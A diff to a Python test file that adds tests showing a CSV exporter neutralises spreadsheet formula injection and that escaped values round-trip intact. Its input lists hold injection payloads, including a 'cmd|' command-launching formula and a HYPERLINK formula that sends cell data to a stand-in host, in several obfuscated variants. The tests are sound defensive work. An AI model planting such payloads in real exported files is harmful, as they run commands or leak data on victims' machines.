@@ -5,6 +5,8 @@ import io
 import json
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from gemma_edge.app.describe import record_format
 from gemma_edge.description import (
@@ -14,7 +16,13 @@ from gemma_edge.description import (
     render_head,
     render_record,
 )
-from gemma_edge.documents.document import digest, task_digest, whole_lines
+from gemma_edge.documents.document import (
+    digest,
+    iter_rows,
+    render_csv,
+    task_digest,
+    whole_lines,
+)
 
 RECORDS = [
     ImageRecord(file="a.jpg", answer='He said "hello",\nand left.', tokens=280, model="e4b",
@@ -93,3 +101,40 @@ def test_digests():
     assert digest(b"") == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
     assert task_digest({"a": 1, "b": None}) == task_digest({"b": None, "a": 1})
     assert task_digest({"a": 1}) != task_digest({"a": 2})
+
+
+FORMULAS = [
+    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+    "\uff1d1+1", "\uff0bA1", "\uff0dA1", "\uff20A1", "\ufe66A1", "  =1", "\u00a0=1", "\ufeff=1",
+    "\u200b=1",
+    '=HYPERLINK("http://x.test?"&A1)', "-A1", "-", "=",
+]  # fmt: skip
+BEHIND = [f"Acme{end}=1+1" for end in (";", "\t", "\n", "\r")] + ["Acme\n- HYPERLINK(A1)"]
+PLAIN = [
+    "", "Acme", "-5.00", "+5", "-1.234,56", "+41446681800", "-12'000.50", "1e-5", "-1e5", "-3%",
+    "a=b", "a-b", "[1, -5]", '{"a": "=1"}', "a; -5", "one\n- two\n- three", "5; -6.5", "12 - 7",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *BEHIND])
+def test_a_formula_is_text_in_a_spreadsheet(text):
+    (row,) = csv.reader(io.StringIO(render_csv([text, "x"]), newline=""))
+    assert row[0] != text and row[1] == "x"
+    if text in FORMULAS:
+        assert row[0].startswith("'") and row[0].replace("'", "") == text.replace("'", "")
+    assert next(csv.reader(io.StringIO(render_csv([text], raw=True), newline="")))[0] == text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_numbers_and_all_other_text_stay_as_they_are(text):
+    assert list(csv.reader(io.StringIO(render_csv([text, -5.0])))) == [[text, "-5.0"]]
+
+
+@given(st.lists(st.text(alphabet="=+-@\t\r\n\0'; 5.x(\uff1d\ufeff|%e\"", max_size=12), min_size=1))
+def test_what_was_made_harmless_is_given_back(cells):
+    names = [f"n{number}" for number in range(len(cells))]
+    cells = [cell.replace("\0", "") for cell in cells]  # an older Python's reader takes no NUL
+    text = f"{render_csv(names)}\n{render_csv(cells)}\n"
+    assert list(iter_rows(text)) == [dict(zip(names, cells, strict=True))]
+    raw = f"{render_csv(names)}\n{render_csv(cells, raw=True)}\n"
+    assert list(iter_rows(raw, raw=True)) == [dict(zip(names, cells, strict=True))]
